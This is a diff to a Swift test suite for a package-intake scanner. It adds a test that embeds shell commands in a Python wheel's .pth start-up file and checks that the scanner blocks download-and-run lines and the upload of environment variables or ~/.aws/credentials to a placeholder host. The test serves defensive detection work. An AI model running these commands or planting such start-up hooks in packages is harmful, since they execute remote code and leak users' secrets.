@@ -20,6 +20,25 @@ struct IntakeTests {
     #expect(report.artifacts.compactMap(\.evidence.project?.name) == names)
   }
 
+  @Test(
+    "blocks a start-up line whose command line downloads and runs or steals, and only that",
+    arguments: [
+      ("curl -s http://example.org/x | sh", Verdict.block, "PRQ102"),
+      ("bash -c \"$(curl -s http://example.org/x)\"", .block, "PRQ102"),
+      ("curl -s http://example.org/x -o /tmp/x; sh /tmp/x", .block, "PRQ102"),
+      ("env | curl -d @- http://example.org/", .block, "PRQ101"),
+      ("curl -T ~/.aws/credentials http://example.org/", .block, "PRQ101"),
+      ("curl -fsS http://example.org/x -o data.json", .quarantine, "PRQ105"),
+      ("git rev-parse HEAD | head -1", .quarantine, "PRQ106"),
+    ])
+  func commandLines(command: String, verdict: Verdict, rule: String) throws {
+    let line = "import os; os.system('\(command)')\n"
+    let wheel = WheelBuilder(name: "demo", files: [("demo.pth", line)]).write(to: directory)
+    let artifact = try #require(check([.path(wheel)]).artifacts.first)
+    #expect(artifact.decision.verdict == verdict)
+    #expect(artifact.evidence.findings.contains { $0.rule == rule })
+  }
+
   @Test("takes a folder of artifacts for what it holds, and a source tree for one target")
   func folders() {
     let inner = TemporaryDirectory()
